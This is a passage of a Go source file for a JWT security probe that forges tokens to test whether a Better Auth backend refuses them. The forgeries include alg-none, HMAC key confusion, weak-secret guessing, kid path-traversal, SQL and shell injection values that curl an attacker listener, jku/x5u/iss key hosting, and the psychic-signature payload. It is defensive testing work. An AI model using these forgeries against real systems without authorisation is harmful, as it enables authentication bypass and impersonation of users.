// Package probe attacks a protected API with tokens forged from a genuine
// Better Auth JWT, and says whether the backend refused every one of them.
// Each forgery is a known way verifiers have been fooled (RFC 8725 §2,
// jwt_tool's list): a backend that accepts one of them accepts tokens
// nobody signed. The package never prints: it returns a Report for the
// renderers.
package probe

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	_ "crypto/sha512" // crypto.SHA384 and crypto.SHA512 for the forged signatures
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash"
	"io"
	"maps"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/baverify/baverify/internal/verify"
)

// Case names, in the order they run. They are part of the JSON output.
const (
	CaseGenuine                   = "genuine"
	CaseNoToken                   = "no_token"
	CaseMalformed                 = "malformed"
	CaseSignatureTampered         = "signature_tampered"
	CaseSignatureStripped         = "signature_stripped"
	CasePayloadTampered           = "payload_tampered"
	CaseAlgNone                   = "alg_none"
	CaseAlgNoneTitle              = "alg_none_title"
	CaseAlgNoneUpper              = "alg_none_upper"
	CaseAlgNoneMixed              = "alg_none_mixed"
	CaseHMACPublicKey             = "hmac_public_key"
	CaseHMACPublicKeyHS384        = "hmac_public_key_hs384"
	CaseHMACPublicKeyHS512        = "hmac_public_key_hs512"
	CaseHMACPublicKeyNoNewline    = "hmac_public_key_no_newline"
	CaseHMACPublicKeyNoNewline384 = "hmac_public_key_no_newline_hs384"
	CaseHMACPublicKeyNoNewline512 = "hmac_public_key_no_newline_hs512"
	CaseHMACJWK                   = "hmac_jwk_json"
	CaseHMACRawKey                = "hmac_raw_key"
	CaseHMACWeakSecret            = "hmac_weak_secret"
	CaseUnknownKid                = "unknown_kid"
	CaseKidBlank                  = "kid_blank"
	CaseKidPathTraversal          = "kid_path_traversal"
	CaseKidSQLInjection           = "kid_sql_injection"
	CaseKidCommandInjection       = "kid_command_injection"
	CaseKidURL                    = "kid_url"
	CaseEmbeddedJWK               = "embedded_jwk"
	CaseX5C                       = "x5c_header"
	CaseJKU                       = "jku_header"
	CaseX5U                       = "x5u_header"
	CaseIssDiscovery              = "iss_discovery"
	CaseURLInjection              = "url_injection"
	CasePsychicSignature          = "psychic_signature"
	CaseAlgOtherFamily            = "alg_other_family"
	CaseClaimTypes                = "claim_type_confusion"
	CaseHeaderTypes               = "header_type_confusion"
	CaseExpiredToken              = "expired_token"
	CaseNotYetValid               = "not_yet_valid_token"
	CaseOtherAudience             = "other_audience_token"
	CaseOtherIssuer               = "other_issuer_token"
	CaseNoExp                     = "no_exp_token"
	CaseNoAud                     = "no_aud_token"
)

// ForgedSubject is the sub that payload_tampered claims to be.
const ForgedSubject = "baverify-probe-forged-subject"

// The kid injections: a path to an empty file, and SQL that selects a
// known string as the key.
const (
	KidPathTraversal = "../../../../../../../../dev/null"
	KidSQLInjection  = "x' UNION SELECT 'baverify-probe';--"
	KidSQLKey        = "baverify-probe"
)

// WeakSecrets are the HMAC secrets hmac_weak_secret tries, with HS256,
// HS384 and HS512 each: the empty secret, then secrets that public
// tutorials, library READMEs and leaked configurations use. Kept short on
// purpose (each costs three requests); --hmac-secrets adds more.
func WeakSecrets() []string {
	return []string{
		"",                    // an unset environment variable
		"secret",              // the most common placeholder
		"your-256-bit-secret", // jwt.io's debugger default
		"your-secret-key",     // tutorials, .env.example files
		"changeme",
		"jwt_secret",
		"supersecret",
		"secretkey",
		"mysecret",
		"shhhhh", // the jsonwebtoken and express-jwt READMEs
	}
}

// MaxExtraSecrets bounds --hmac-secrets: each secret is three requests to
// the backend.
const MaxExtraSecrets = 1000

// Secret is an HMAC secret hmac_weak_secret tries, with how the report
// names it: a built-in one by its value, one from a file by its line
// (the file may hold the backend's real secret).
type Secret struct {
	Value []byte
	Label string
}

// Variant is one of the tokens of a case that sends several (every secret
// of hmac_weak_secret, say); the case fails when any one is accepted.
type Variant struct {
	// Label says what this token changes: `HS256, secret "secret"`.
	Label string
	Token string
	tr    traits
}

// traits say what a forgery has that a simpler accepted case may explain.
type traits struct {
	// forged: not signed by the deployment (every case but the genuine
	// and the deployment tokens); signature_tampered explains it.
	forged bool
	// emptySig: no signature; signature_stripped explains it.
	emptySig bool
	// foreignKid: a kid the JWKS does not have; unknown_kid explains it.
	foreignKid bool
	// hmacAlg and hmacKey: HS-signed with this secret; hmac_weak_secret
	// explains it when it was accepted with the same.
	hmacAlg string
	hmacKey []byte
}

// Case is one request of a probe.
type Case struct {
	Name string
	// Attack says what is sent and what a backend that accepts it gets
	// wrong.
	Attack string
	// Authorization is the header value sent; "" sends none.
	Authorization string
	// Token is the (forged) token in Authorization, for redaction; "" when
	// the header carries none.
	Token string
	// Genuine: the unmodified token, expected to be accepted. Every other
	// case must be refused.
	Genuine bool
	// NotTested says why the case is not sent; EnabledBy names the flag
	// that would let it be sent, when one would.
	NotTested string
	EnabledBy string
	// Source says where a deployment token came from ("--expired-token").
	Source string
	// Variants, when there are any, are the tokens the case sends instead
	// of Token.
	Variants []Variant
	// Fix is the one thing to change when this case is accepted.
	Fix string
	// Check is what the case tests (exp, signature, ...), for the
	// coverage of checks.
	Check string
	// ExpiredAgo is how long ago an expired deployment token expired.
	ExpiredAgo time.Duration
	tr         traits
	// NotApplicable says why the case does not apply to this token (the
	// psychic signature of a token that is not ECDSA); it is then left
	// out of the probes and listed in the coverage.
	NotApplicable string
	// rotation: the case is rotated_key_token, sent after every other
	// case by sendRotation.
	rotation *KeyRotation
}

// Inputs is what Forge builds the cases from.
type Inputs struct {
	// Token is the genuine compact JWS.
	Token string
	// Key is the public key the token verifies with, and JWK that key's
	// JSON as the JWKS served it; nil when no key source was known (the
	// HMAC confusion cases are then not tested).
	Key crypto.PublicKey
	JWK []byte
	// Attacker is the key of the attacker-hosted cases and of embedded_jwk;
	// nil makes one from Random.
	Attacker *Attacker
	// AttackerURL is where the backend reaches the attacker listener; ""
	// leaves jku_header, x5u_header and iss_discovery not tested, for the
	// reason AttackerSkip.
	AttackerURL  string
	AttackerSkip string
	// Deployment are tokens of the same deployment, each already checked
	// to be what its kind says; a kind missing leaves its case not tested.
	Deployment map[Kind]DeploymentToken
	// Rotation lets rotated_key_token be sent; nil leaves it out.
	Rotation *KeyRotation
	// Secrets are tried by hmac_weak_secret after WeakSecrets.
	Secrets []Secret
	// Now dates the expired token's age; nil: the age is not known.
	Now    func() time.Time
	Random io.Reader
}

// The checks a backend makes, which the cases test; part of the JSON
// output (coverage.checks).
const (
	CheckAuthorization = "authorization" // a token is required and must parse
	CheckSignature     = "signature"
	CheckAlgorithm     = "algorithm"   // the algorithm is pinned, not taken from the header
	CheckHMACSecret    = "hmac_secret" // no HMAC with a guessable secret
	CheckKid           = "kid"         // an unknown kid is refused; the kid is never a path, SQL, a command or a URL
	CheckTokenKeys     = "keys_from_token"
	CheckErrors        = "error_handling" // malformed members are refused, not crashed on
	CheckExp           = "exp"
	CheckNbf           = "nbf"
	CheckIss           = "iss"
	CheckAud           = "aud"
)

// Fixes, the one thing to change when a case of a check is accepted.
const (
	fixSignature = "verify the signature on every path: this backend serves tokens whose signature is wrong (a decode without verification somewhere)"
	fixAlgorithm = "pin the algorithms to the deployment's (algorithms=[...]); never take the algorithm from the token's header"
	fixTokenKeys = "take keys only from the deployment's JWKS URL, configured in the backend; never from the token (jwk, x5c, jku, x5u, a kid that is a URL, its iss)"
)

// Forge builds every case from a genuine token.
func Forge(in Inputs) ([]Case, error) {
	tok, err := verify.Decode(in.Token)
	if err != nil {
		return nil, err
	}
	alg, _, err := tok.Header.String("alg")
	if err != nil {
		return nil, err
	}
	kid, _, _ := tok.Header.String("kid")
	f := &forger{tok: tok, alg: alg, kid: kid}
	f.headerSeg, f.payloadSeg, _ = strings.Cut(tok.SigningInput, ".")
	forged := traits{forged: true}

	f.add(Case{Name: CaseGenuine, Genuine: true, Token: in.Token,
		Attack: "the genuine token, unchanged: the backend must accept it, or the other results mean nothing"})
	f.cases = append(f.cases,
		Case{Name: CaseNoToken, Check: CheckAuthorization, Fix: "require a valid token on this route",
			Attack: "no Authorization header: a protected route must refuse anonymous calls"},
		Case{Name: CaseMalformed, Authorization: "Bearer not-a-jwt", Check: CheckAuthorization, tr: forged,
			Fix:    "verify the token: this backend accepts a bearer string that is not even a JWT",
			Attack: `"Bearer not-a-jwt": a token that does not even parse`})

	// One bit of the signature flipped: a backend that accepts it does not
	// check signatures at all.
	sig := bytes.Clone(tok.Signature)
	if len(sig) == 0 {
		sig = []byte{0}
	}
	sig[len(sig)/2] ^= 0x01
	f.add(Case{Name: CaseSignatureTampered, Token: tok.SigningInput + "." + enc(sig), Check: CheckSignature, tr: forged, Fix: fixSignature,
		Attack: "the genuine token with one bit of its signature flipped: accepting it means signatures are not checked"})
	f.add(Case{Name: CaseSignatureStripped, Token: tok.SigningInput + ".", Check: CheckSignature, tr: traits{forged: true, emptySig: true},
		Fix:    "refuse a token without a signature",
		Attack: "the genuine header and payload with the signature segment empty: accepting it means a missing signature passes"})

	// The payload says someone else, under the original signature.
	claims, err := setMembers(tok.Claims, map[string]any{"sub": ForgedSubject})
	if err != nil {
		return nil, err
	}
	f.add(Case{Name: CasePayloadTampered, Token: f.headerSeg + "." + enc(claims) + "." + enc(tok.Signature), Check: CheckSignature, tr: forged,
		Fix:    fixSignature,
		Attack: fmt.Sprintf("sub changed to %q under the original signature: accepting it lets anyone be any user", ForgedSubject)})

	// alg "none" and no signature (RFC 8725 §2.1), in the letter cases that
	// slipped past blocklists which compared case-sensitively.
	for _, none := range []struct{ name, alg string }{
		{CaseAlgNone, "none"}, {CaseAlgNoneTitle, "None"}, {CaseAlgNoneUpper, "NONE"}, {CaseAlgNoneMixed, "nOnE"},
	} {
		h, err := setMembers(tok.Header, map[string]any{"alg": none.alg})
		if err != nil {
			return nil, err
		}
		f.add(Case{Name: none.name, Token: enc(h) + "." + f.payloadSeg + ".", Check: CheckAlgorithm, Fix: fixAlgorithm,
			tr:     traits{forged: true, emptySig: true},
			Attack: fmt.Sprintf(`alg %q and an empty signature (RFC 8725 §2.1): accepting it means the header picks the algorithm`, none.alg)})
	}

	if err := f.hmacConfusion(in.Key, in.JWK); err != nil {
		return nil, err
	}
	if err := f.weakSecrets(in.Secrets); err != nil {
		return nil, err
	}

	attacker, attackerErr := in.Attacker, error(nil)
	if attacker == nil {
		attacker, attackerErr = NewAttacker(in.Token, in.Random)
	}
	if err := f.kidInjection(attacker, attackerErr, in.AttackerURL, in.AttackerSkip, in.Random); err != nil {
		return nil, err
	}
	if err := f.attackerCases(attacker, attackerErr, in.AttackerURL, in.AttackerSkip); err != nil {
		return nil, err
	}
	f.psychic()
	if err := f.typeConfusion(in.Random); err != nil {
		return nil, err
	}

	for _, k := range kinds() {
		f.deploymentToken(k, in.Deployment[k.kind], in.Now)
	}
	if c, ok := rotationCase(in.Rotation); ok {
		f.add(c)
	}
	return f.cases, nil
}

// forger accumulates the cases of one genuine token.
type forger struct {
	tok                   *verify.Token
	alg, kid              string
	headerSeg, payloadSeg string
	cases                 []Case
}

var enc = base64.RawURLEncoding.EncodeToString

// add appends a case that sends its token as a bearer token.
func (f *forger) add(c Case) {
	if c.Token != "" && c.NotTested == "" {
		c.Authorization = "Bearer " + c.Token
	}
	f.cases = append(f.cases, c)
}

// signedHS is the genuine payload under a header with alg and the extra
// members set, MACed with key.
func (f *forger) signedHS(alg string, key []byte, set map[string]any) (string, error) {
	members := map[string]any{"alg": alg}
	maps.Copy(members, set)
	h, err := setMembers(f.tok.Header, members)
	if err != nil {
		return "", err
	}
	input := enc(h) + "." + f.payloadSeg
	mac := hmac.New(hmacHash(alg), key)
	mac.Write([]byte(input))
	return input + "." + enc(mac.Sum(nil)), nil
}

func hmacHash(alg string) func() hash.Hash {
	switch alg {
	case "HS384":
		return crypto.SHA384.New
	case "HS512":
		return crypto.SHA512.New
	}
	return sha256.New
}

// hmacConfusion: HS* keyed with every encoding of the public key that a
// verifier taking the algorithm from the header and "the key" as bytes
// might use as the secret (RFC 8725 §2.1).
func (f *forger) hmacConfusion(key crypto.PublicKey, jwk []byte) error {
	type variant struct {
		name, alg, what string
		secret          func() ([]byte, error)
	}
	pemKey := func() ([]byte, error) { return PublicPEM(key) }
	pemBare := func() ([]byte, error) {
		p, err := PublicPEM(key)
		return bytes.TrimSuffix(p, []byte("\n")), err
	}
	variants := []variant{
		{CaseHMACPublicKey, "HS256", "the JWKS public key (PEM)", pemKey},
		{CaseHMACPublicKeyHS384, "HS384", "the JWKS public key (PEM)", pemKey},
		{CaseHMACPublicKeyHS512, "HS512", "the JWKS public key (PEM)", pemKey},
		{CaseHMACPublicKeyNoNewline, "HS256", "the JWKS public key (PEM without its final newline)", pemBare},
		{CaseHMACPublicKeyNoNewline384, "HS384", "the JWKS public key (PEM without its final newline)", pemBare},
		{CaseHMACPublicKeyNoNewline512, "HS512", "the JWKS public key (PEM without its final newline)", pemBare},
		{CaseHMACJWK, "HS256", "the JWK JSON as the JWKS serves it", func() ([]byte, error) {
			if len(jwk) == 0 {
				return nil, fmt.Errorf("the JWK as served is not known")
			}
			return jwk, nil
		}},
		{CaseHMACRawKey, "HS256", "the raw public key bytes (Ed25519: 32 bytes; EC: 04||X||Y; RSA: PKCS#1 DER)",
			func() ([]byte, error) { return RawPublicKey(key) }},
	}
	for _, v := range variants {
		c := Case{Name: v.name, EnabledBy: "--base-url or --jwks", Check: CheckAlgorithm, Fix: fixAlgorithm,
			Attack: fmt.Sprintf("%s signed with %s as the HMAC secret: the algorithm-confusion attack (RFC 8725 §2.1)", v.alg, v.what)}
		if key == nil {
			c.NotTested = "the public key is not known: give --base-url or --jwks"
			f.add(c)
			continue
		}
		c.EnabledBy = ""
		secret, err := v.secret()
		if err != nil {
			c.NotTested = err.Error()
			f.add(c)
			continue
		}
		if c.Token, err = f.signedHS(v.alg, secret, nil); err != nil {
			return err
		}
		c.tr = traits{forged: true, hmacAlg: v.alg, hmacKey: secret}
		f.add(c)
	}
	return nil
}

// weakSecrets: HS256, HS384 and HS512 under the genuine kid, keyed with
// each secret a leftover HMAC configuration may use. It is not algorithm
// confusion: the backend has an HMAC secret of its own, and a guessable one.
func (f *forger) weakSecrets(extra []Secret) error {
	secrets := make([]Secret, 0, len(WeakSecrets())+len(extra))
	for _, w := range WeakSecrets() {
		secrets = append(secrets, Secret{Value: []byte(w), Label: strconv.Quote(w)})
	}
	secrets = append(secrets, extra...)
	c := Case{Name: CaseHMACWeakSecret, Check: CheckHMACSecret,
		Fix:    "remove the HMAC key (and HS* from the accepted algorithms): Better Auth signs with an asymmetric key, and this secret is guessable",
		Attack: fmt.Sprintf("HS256, HS384 and HS512 under the genuine kid, keyed with %d guessable secrets (the empty one, \"secret\", tutorial and README placeholders): accepting one means a leftover HMAC secret anyone can guess", len(secrets))}
	for _, sec := range secrets {
		for _, alg := range []string{"HS256", "HS384", "HS512"} {
			tok, err := f.signedHS(alg, sec.Value, nil)
			if err != nil {
				return err
			}
			c.Variants = append(c.Variants, Variant{Label: alg + ", secret " + sec.Label, Token: tok,
				tr: traits{forged: true, hmacAlg: alg, hmacKey: sec.Value}})
		}
	}
	f.add(c)
	return nil
}

// kidInjection: tokens whose kid is not a key of the JWKS: a random one
// (the control: a backend that skips verification for an unknown kid
// accepts every case here), an empty one, and the injections of a kid
// used as a file name, in SQL, in a shell command or as a URL.
func (f *forger) kidInjection(a *Attacker, keyErr error, base, skip string, random io.Reader) error {
	foreign := func(alg string, key []byte) traits {
		return traits{forged: true, foreignKid: true, hmacAlg: alg, hmacKey: key}
	}
	unknown := Case{Name: CaseUnknownKid, Check: CheckKid,
		Fix:    "refuse a token whose kid is not in the JWKS (after refetching it once); never decode it without verifying",
		Attack: "signed by a fresh key under a random kid the JWKS does not have: the control case; accepting it means an unknown kid skips verification"}
	if keyErr != nil {
		unknown.NotTested = keyErr.Error()
		f.add(unknown)
	} else {
		kid := "baverify-probe-unknown-" + randomHex(random, 8)
		var err error
		if unknown.Token, err = a.sign(f.tok.Header, map[string]any{"kid": kid}, f.payloadSeg); err != nil {
			return err
		}
		unknown.tr = traits{forged: true, foreignKid: true}
		f.add(unknown)
	}

	blank, err := f.signedHS("HS256", nil, map[string]any{"kid": ""})
	if err != nil {
		return err
	}
	f.add(Case{Name: CaseKidBlank, Token: blank, Check: CheckKid, tr: foreign("HS256", nil),
		Fix:    "refuse a token with an empty kid; never fall back to an empty or default key",
		Attack: `HS256 with an empty kid and an empty key: accepting it means an empty kid selects an empty (or default) key`})
	path, err := f.signedHS("HS256", nil, map[string]any{"kid": KidPathTraversal})
	if err != nil {
		return err
	}
	f.add(Case{Name: CaseKidPathTraversal, Token: path, Check: CheckKid, tr: foreign("HS256", nil),
		Fix:    "never use the kid as a file name: look it up in the JWKS",
		Attack: fmt.Sprintf("HS256 with kid %q and an empty key: accepting it means the key is read from a file the kid names", KidPathTraversal)})
	sql, err := f.signedHS("HS256", []byte(KidSQLKey), map[string]any{"kid": KidSQLInjection})
	if err != nil {
		return err
	}
	f.add(Case{Name: CaseKidSQLInjection, Token: sql, Check: CheckKid, tr: foreign("HS256", []byte(KidSQLKey)),
		Fix:    "never paste the kid into SQL: look it up in the JWKS (or bind it as a parameter)",
		Attack: fmt.Sprintf("HS256 with kid %q and the key %q: accepting it means the kid reaches an SQL query", KidSQLInjection, KidSQLKey)})

	cmd := Case{Name: CaseKidCommandInjection, Check: CheckKid, EnabledBy: "--attacker-url",
		Fix:    "never pass the kid to a shell: look it up in the JWKS",
		Attack: "HS256 with a kid that is a shell command injection (|, ;, $(...), `...`) running curl against the attacker listener: a request there means the kid reaches a shell"}
	kidURL := Case{Name: CaseKidURL, Check: CheckTokenKeys, EnabledBy: "--attacker-url", Fix: fixTokenKeys,
		Attack: "signed by a fresh key, with a kid that is the URL of a JWKS at the attacker listener serving that key: accepting it, or a request there, means a kid that is a URL is fetched"}
	switch {
	case base == "":
		cmd.NotTested, kidURL.NotTested = skip, skip
	case keyErr != nil:
		cmd.EnabledBy, kidURL.EnabledBy = "", ""
		kidURL.NotTested = keyErr.Error()
	default:
		cmd.EnabledBy, kidURL.EnabledBy = "", ""
		kid := strings.TrimSuffix(base, "/") + PathKidURL
		if kidURL.Token, err = a.sign(f.tok.Header, map[string]any{"kid": kid}, f.payloadSeg); err != nil {
			return err
		}
		kidURL.tr = traits{forged: true, foreignKid: true}
	}
	if base != "" {
		u := strings.TrimSuffix(base, "/") + PathKidCommand
		for i, p := range []struct{ label, kid string }{
			{"kid x|curl URL", "x|curl -s %s"}, {"kid x;curl URL;", "x;curl -s %s;"},
			{"kid $(curl URL)", "$(curl -s %s)"}, {"kid `curl URL`", "`curl -s %s`"},
		} {
			kid := fmt.Sprintf(p.kid, fmt.Sprintf("%s/%d", u, i+1))
			tok, err := f.signedHS("HS256", []byte(KidSQLKey), map[string]any{"kid": kid})
			if err != nil {
				return err
			}
			cmd.Variants = append(cmd.Variants, Variant{Label: p.label, Token: tok, tr: foreign("HS256", []byte(KidSQLKey))})
		}
	}
	f.add(cmd)
	f.add(kidURL)
	return nil
}

// randomHex is n random bytes in hex, from random (crypto/rand when nil
// or short).
func randomHex(random io.Reader, n int) string {
	b := make([]byte, n)
	if random == nil || func() bool { _, err := io.ReadFull(random, b); return err != nil }() {
		_, _ = rand.Read(b)
	}
	return hex.EncodeToString(b)
}

// attackerCases: tokens signed by a key baverify made, which the token
// says where to find: in its own header (embedded_jwk, x5c_header), at a
// URL in jku or x5u, or at its iss.
func (f *forger) attackerCases(a *Attacker, keyErr error, url, skip string) error {
	emb := Case{Name: CaseEmbeddedJWK, Check: CheckTokenKeys, Fix: fixTokenKeys,
		Attack: `signed with a fresh key that the header carries in "jwk" (CVE-2018-0114): accepting it means the token brings its own key`}
	x5c := Case{Name: CaseX5C, Check: CheckTokenKeys, Fix: fixTokenKeys,
		Attack: `signed with a fresh key whose self-signed certificate the header carries in "x5c": accepting it means the leaf certificate of the token is trusted without a chain check`}
	hosted := []Case{
		{Name: CaseJKU, EnabledBy: "--attacker-url", Check: CheckTokenKeys, Fix: fixTokenKeys,
			Attack: `signed with a fresh key published at the attacker listener, which "jku" points at: accepting it means the token says where its key is`},
		{Name: CaseX5U, EnabledBy: "--attacker-url", Check: CheckTokenKeys, Fix: fixTokenKeys,
			Attack: `signed with a fresh key whose X.509 certificate is at the attacker listener, which "x5u" points at: accepting it means the token says where its key is`},
		{Name: CaseIssDiscovery, EnabledBy: "--attacker-url", Check: CheckTokenKeys, Fix: fixTokenKeys,
			Attack: `iss set to the attacker listener, which serves its own JWKS at <iss>/api/auth/jwks and <iss>/.well-known/jwks.json: accepting it means keys are discovered from any iss`},
	}
	if keyErr != nil {
		emb.NotTested, x5c.NotTested = keyErr.Error(), keyErr.Error()
		f.add(emb)
		f.add(x5c)
		for _, c := range hosted {
			c.NotTested, c.EnabledBy = keyErr.Error(), ""
			f.add(c)
		}
		if url == "" {
			f.add(Case{Name: CaseURLInjection, Check: CheckTokenKeys, NotTested: skip, EnabledBy: "--attacker-url"})
			return nil
		}
		return f.urlInjection(strings.TrimSuffix(url, "/"))
	}
	var err error
	if emb.Token, err = a.sign(f.tok.Header, map[string]any{"jwk": a.PublicJWK()}, f.payloadSeg); err != nil {
		return err
	}
	emb.tr = traits{forged: true}
	f.add(emb)
	if x5c.Token, err = a.sign(f.tok.Header, map[string]any{"x5c": []string{base64.StdEncoding.EncodeToString(a.CertDER)}}, f.payloadSeg); err != nil {
		return err
	}
	x5c.tr = traits{forged: true}
	f.add(x5c)
	if url == "" {
		for _, c := range hosted {
			c.NotTested = skip
			f.add(c)
		}
		f.add(Case{Name: CaseURLInjection, Check: CheckTokenKeys, NotTested: skip, EnabledBy: "--attacker-url",
			Attack: "each header member and claim in turn set to a URL of the attacker listener: a request there means the backend fetches URLs it reads from the token"})
		return nil
	}
	base := strings.TrimSuffix(url, "/")
	jku, x5u, iss := hosted[0], hosted[1], hosted[2]
	jku.EnabledBy, x5u.EnabledBy, iss.EnabledBy = "", "", ""
	if jku.Token, err = a.sign(f.tok.Header, map[string]any{"jku": base + PathJKU}, f.payloadSeg); err != nil {
		return err
	}
	if x5u.Token, err = a.sign(f.tok.Header, map[string]any{"x5u": base + PathX5U}, f.payloadSeg); err != nil {
		return err
	}
	claims, err := setMembers(f.tok.Claims, map[string]any{"iss": base + PathIss})
	if err != nil {
		return err
	}
	if iss.Token, err = a.sign(f.tok.Header, nil, enc(claims)); err != nil {
		return err
	}
	for _, c := range []Case{jku, x5u, iss} {
		c.tr = traits{forged: true}
		f.add(c)
	}
	return f.urlInjection(base)
}

// urlInjection: every header member and claim in turn set to a URL of the
// attacker listener, under the genuine signature (jwt_tool's "external
// interactions"): a request there means the backend fetches a URL it
// read from the token (an avatar from "image", say) before or without
// verifying it.
func (f *forger) urlInjection(base string) error {
	c := Case{Name: CaseURLInjection, Check: CheckTokenKeys,
		Fix:    "never fetch a URL read from a token before it is verified, and then only from an allow-list",
		Attack: "each header member and claim in turn set to a URL of the attacker listener, under the genuine signature: a request there means the backend fetches URLs it reads from the token"}
	for _, part := range []struct {
		name string
		obj  verify.Object
	}{{"header", f.tok.Header}, {"claim", f.tok.Claims}} {
		for _, name := range part.obj.Keys {
			u := fmt.Sprintf("%s%s/%s-%s", base, PathURLInjection, part.name, url.PathEscape(name))
			set, err := setMembers(part.obj, map[string]any{name: u})
			if err != nil {
				return err
			}
			tok := enc(set) + "." + f.payloadSeg + "." + enc(f.tok.Signature)
			if part.name == "claim" {
				tok = f.headerSeg + "." + enc(set) + "." + enc(f.tok.Signature)
			}
			c.Variants = append(c.Variants, Variant{Label: part.name + " " + strconv.Quote(name), Token: tok,
				tr: traits{forged: true, foreignKid: part.name == "header" && name == "kid"}})
		}
	}
	f.add(c)
	return nil
}

// psychic: r = s = 0 at the right length (CVE-2022-21449): a verifier that
// skips ECDSA's range check accepts it for any message and key.
func (f *forger) psychic() {
	c := Case{Name: CasePsychicSignature, Check: CheckSignature, tr: traits{forged: true},
		Fix:    "update the ECDSA implementation: it skips the range check of r and s (CVE-2022-21449)",
		Attack: "the genuine header and payload with an ECDSA signature of r = s = 0 (CVE-2022-21449): accepting it means the ECDSA check skips its range check"}
	size := map[string]int{"ES256": 32, "ES384": 48, "ES512": 66}[f.alg]
	if size == 0 {
		c.NotApplicable = fmt.Sprintf("only ECDSA (ES256, ES384, ES512) tokens have it; this token is %s", f.alg)
		f.cases = append(f.cases, c)
		return
	}
	c.Token = f.tok.SigningInput + "." + enc(make([]byte, 2*size))
	f.add(c)
}

const fixErrors = "catch every error of token verification and answer 401: an unhandled error on a forged token (a 500) is a denial-of-service risk, and can hide an acceptance on another path"

// typeConfusion: members of an unexpected JSON type, and an algorithm of
// another family under the genuine kid; a backend must refuse them, not
// crash (a 500 is a warning). Each keeps the genuine signature or has one
// of the right length: none is validly signed.
func (f *forger) typeConfusion(random io.Reader) error {
	other := Case{Name: CaseAlgOtherFamily, Check: CheckErrors, Fix: fixErrors,
		Attack: "the genuine kid under an algorithm of another family (RS256 for an Ed25519 key, say), with a signature of that algorithm's length: a verifier that picks the key by kid and the code by alg fails on the mismatch"}
	for _, alg := range []string{"RS256", "ES256", "EdDSA"} {
		if family(alg) == family(f.alg) {
			continue
		}
		size := map[string]int{"RS256": 256, "ES256": 64, "EdDSA": 64}[alg]
		h, err := setMembers(f.tok.Header, map[string]any{"alg": alg})
		if err != nil {
			return err
		}
		sig := make([]byte, size)
		if random == nil || func() bool { _, err := io.ReadFull(random, sig); return err != nil }() {
			_, _ = rand.Read(sig)
		}
		other.Variants = append(other.Variants, Variant{Label: "alg " + alg, Token: enc(h) + "." + f.payloadSeg + "." + enc(sig), tr: traits{forged: true}})
	}
	f.add(other)

	claims := Case{Name: CaseClaimTypes, Check: CheckErrors, Fix: fixErrors,
		Attack: "claims of an unexpected type under the genuine signature (exp and iat null, exp a string, sub an object, aud a number, iss an array; the payload an array, true, a number)"}
	iss := any(nil)
	if raw, ok := f.tok.Claims.Members["iss"]; ok {
		_ = json.Unmarshal(raw, &iss)
	}
	for _, v := range []struct {
		label string
		set   map[string]any
		raw   string
	}{
		{label: "exp null", set: map[string]any{"exp": nil}},
		{label: "iat null", set: map[string]any{"iat": nil}},
		{label: `exp "9999999999"`, set: map[string]any{"exp": "9999999999"}},
		{label: "sub {}", set: map[string]any{"sub": map[string]any{}}},
		{label: "aud 0", set: map[string]any{"aud": 0}},
		{label: "iss [iss]", set: map[string]any{"iss": []any{iss}}},
		{label: "payload []", raw: "[]"},
		{label: "payload true", raw: "true"},
		{label: "payload 1", raw: "1"},
	} {
		payload := []byte(v.raw)
		if v.set != nil {
			var err error
			if payload, err = setMembers(f.tok.Claims, v.set); err != nil {
				return err
			}
		}
		claims.Variants = append(claims.Variants, Variant{Label: v.label, Token: f.headerSeg + "." + enc(payload) + "." + enc(f.tok.Signature),
			tr: traits{forged: true}})
	}
	f.add(claims)

	header := Case{Name: CaseHeaderTypes, Check: CheckErrors, Fix: fixErrors,
		Attack: "header members of an unexpected type under the genuine signature (jku null, true, false, 0; kid null, 0, an object; alg null; x5c a string)"}
	for _, v := range []struct {
		label string
		set   map[string]any
	}{
		{"jku null", map[string]any{"jku": nil}},
		{"jku true", map[string]any{"jku": true}},
		{"jku false", map[string]any{"jku": false}},
		{"jku 0", map[string]any{"jku": 0}},
		{"kid null", map[string]any{"kid": nil}},
		{"kid 0", map[string]any{"kid": 0}},
		{"kid {}", map[string]any{"kid": map[string]any{}}},
		{"alg null", map[string]any{"alg": nil}},
		{`x5c "x"`, map[string]any{"x5c": "x"}},
	} {
		h, err := setMembers(f.tok.Header, v.set)
		if err != nil {
			return err
		}
		_, kidSet := v.set["kid"]
		header.Variants = append(header.Variants, Variant{Label: v.label, Token: enc(h) + "." + f.payloadSeg + "." + enc(f.tok.Signature),
			tr: traits{forged: true, foreignKid: kidSet}})
	}
	f.add(header)
	return nil
}

// family is an alg's key type: RSA, EC or OKP.
func family(alg string) string {
	switch {
	case strings.HasPrefix(alg, "RS"), strings.HasPrefix(alg, "PS"):
		return "RSA"
	case strings.HasPrefix(alg, "ES"):
		return "EC"
	}
	return alg
}

// deploymentToken adds a case whose token only the deployment can sign.
func (f *forger) deploymentToken(k kindSpec, d DeploymentToken, now func() time.Time) {
	if k.onlyMinted && d.Token == "" {
		// No Better Auth route issues such a token: only a minter
		// (--mint-from) has one, and without it the case is not listed.
		return
	}
	c := Case{Name: k.name, Attack: k.attack, Token: d.Token, Source: d.Source, Check: k.check, Fix: k.fix}
	if c.Token == "" {
		c.NotTested, c.EnabledBy = "give "+k.flag+" ("+k.what+")", k.flag
	}
	if k.kind == KindExpired && c.Token != "" && now != nil {
		if t, err := verify.Decode(c.Token); err == nil {
			if exp, ok := numericClaim(t.Claims, "exp"); ok {
				c.ExpiredAgo = now().Sub(time.Unix(exp, 0)).Truncate(time.Second)
			}
		}
	}
	f.add(c)
}

// numericClaim reads a NumericDate claim as whole seconds.
func numericClaim(o verify.Object, name string) (int64, bool) {
	raw, ok := o.Members[name]
	if !ok {
		return 0, false
	}
	var v float64
	if json.Unmarshal([]byte(raw), &v) != nil {
		return 0, false
	}
	return int64(v), true
}

// setMembers re-encodes a JSON object with some members replaced or added,
// keeping the order and the bytes of the others.
func setMembers(obj verify.Object, set map[string]any) ([]byte, error) {
	var b bytes.Buffer
	b.WriteByte('{')
	n := 0
	write := func(name string, raw []byte) {
		if n > 0 {
			b.WriteByte(',')
		}
		n++
		k, _ := json.Marshal(name)
		b.Write(k)
		b.WriteByte(':')
		b.Write(raw)
	}
	done := map[string]bool{}
	for _, name := range obj.Keys {
